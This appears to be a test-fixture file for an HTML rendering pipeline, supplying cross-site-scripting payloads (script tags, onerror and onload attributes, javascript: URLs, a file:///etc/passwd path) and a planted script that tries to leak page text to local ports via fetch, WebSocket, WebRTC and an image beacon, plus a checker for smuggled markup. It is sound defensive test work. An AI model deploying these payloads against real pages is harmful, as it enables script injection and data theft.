// Hostile values for every field that reaches HTML, and the oracle that finds markup the renderer did not create.
import { markSpecs, nodeSpecs } from '../../../electron/contract/document/nodeSpecs';
import type { DocNode } from '../../../electron/contract';

/** The marker a planted script would set; a test reads it afterwards and expects nothing. */
export const SCRIPT_MARKER = '__afterwordPwned';
/** Text a planted script writes into the page it runs in. */
export const SCRIPT_RAN = 'SCRIPT-RAN';

/** What a planted script does: set the marker, then try every way out (WebRTC, fetch, WebSocket, an image). */
export function plantedScript(ports: { http: number; ws: number; stun: number }): string {
  return [
    // The words it prints are built at run time, so finding them in a PDF means the script ran, not that its source was printed.
    `window.${SCRIPT_MARKER}=1;document.documentElement.setAttribute('data-pwned','1');document.body&&document.body.insertAdjacentText('beforeend',['SCRIPT','RAN'].join('-'));`,
    `try{new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${ports.stun}'},{urls:'turn:127.0.0.1:${ports.stun}?transport=udp',username:document.body.innerText.slice(0,200),credential:'x'}]}).createDataChannel('x')}catch(e){}`,
    `try{fetch('http://127.0.0.1:${ports.http}/leak?'+encodeURIComponent(document.body.innerText.slice(0,200))).catch(function(){})}catch(e){}`,
    `try{new WebSocket('ws://127.0.0.1:${ports.ws}/leak')}catch(e){}`,
    `new Image().src='http://127.0.0.1:${ports.http}/img';`,
  ].join('');
}

/** Strings that become markup if anything on the way to the page forgets to escape them. */
export function hostileStrings(script: string): string[] {
  return [
    `<script>${script}</script>`,
    `"><img src=x onerror="${script.replace(/"/g, '&quot;')}">`,
    `</style><script>${script}</script><style>`,
    `'--><svg onload=${JSON.stringify(script)}>`,
    `javascript:${script}`,
    'http://127.0.0.1:9/remote.png',
    'file:///etc/passwd',
    '\n# heading\n<script>x</script>\n```js\n',
  ];
}

/** Values of other types for an attribute: an array is what an HTML spec reads as an element. */
export function hostileValues(script: string): unknown[] {
  return [...hostileStrings(script), ['img', { src: 'x', onerror: script }], ['script', {}, script], { toString: script }, 7, true, null];
}

const text = (value: string): DocNode => ({ type: 'text', text: value });
const para = (...content: DocNode[]): DocNode => ({ type: 'paragraph', content });

/** A top-level block holding one node of `type` with the given attributes, with the children its schema needs. */
export function blockWith(type: string, attrs: Record<string, unknown>): DocNode {
  const node = (content?: DocNode[]): DocNode => ({ type, attrs, ...(content ? { content } : {}) });
  switch (type) {
    case 'text':
      return para({ type: 'text', text: 'words', attrs } as DocNode);
    case 'hardBreak':
      return para(text('a'), node(), text('b'));
    case 'paragraph':
    case 'heading':
    case 'codeBlock':
      return node([text('words')]);
    case 'blockquote':
      return node([para(text('words'))]);
    case 'bulletList':
    case 'orderedList':
      return node([{ type: 'listItem', content: [para(text('words'))] }]);
    case 'listItem':
      return { type: 'bulletList', content: [node([para(text('words'))])] };
    case 'taskList':
      return node([{ type: 'taskItem', attrs: { checked: false }, content: [para(text('words'))] }]);
    case 'taskItem':
      return { type: 'taskList', content: [node([para(text('words'))])] };
    case 'doc':
      return para(text('words'));
    default:
      return node();
  }
}

export function markedBlock(type: string, attrs: Record<string, unknown>): DocNode {
  return para({ type: 'text', text: 'marked words', marks: [{ type, attrs }] });
}

export const NODE_TYPES = Object.keys(nodeSpecs);
export const MARK_TYPES = Object.keys(markSpecs);
/** Attribute names a hostile file adds beside the real ones. */
export const EXTRA_ATTRS = ['onerror', 'onclick', 'style', 'src', 'href', 'srcdoc', 'class'];
export const attrNames = (type: string, specs: typeof nodeSpecs) => [...Object.keys(specs[type]!.attrs), ...EXTRA_ATTRS];

/**
 * Each element in an HTML string as "tag attr attr…" (attribute names sorted). Text and attribute values are escaped, so any
 * "<" left in the output is a real element: comparing against a benign render finds every element or attribute smuggled in.
 */
export function elementSignatures(html: string): string[] {
  const signatures: string[] = [];
  for (const match of html.matchAll(/<([a-zA-Z][\w:-]*)([^>]*)>/g)) {
    const names = [...match[2]!.matchAll(/([^\s="'/>]+)(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+))?/g)].map((m) => m[1]!.toLowerCase()).sort();
    signatures.push([match[1]!.toLowerCase(), ...names].join(' '));
  }
  return [...new Set(signatures)].sort();
}
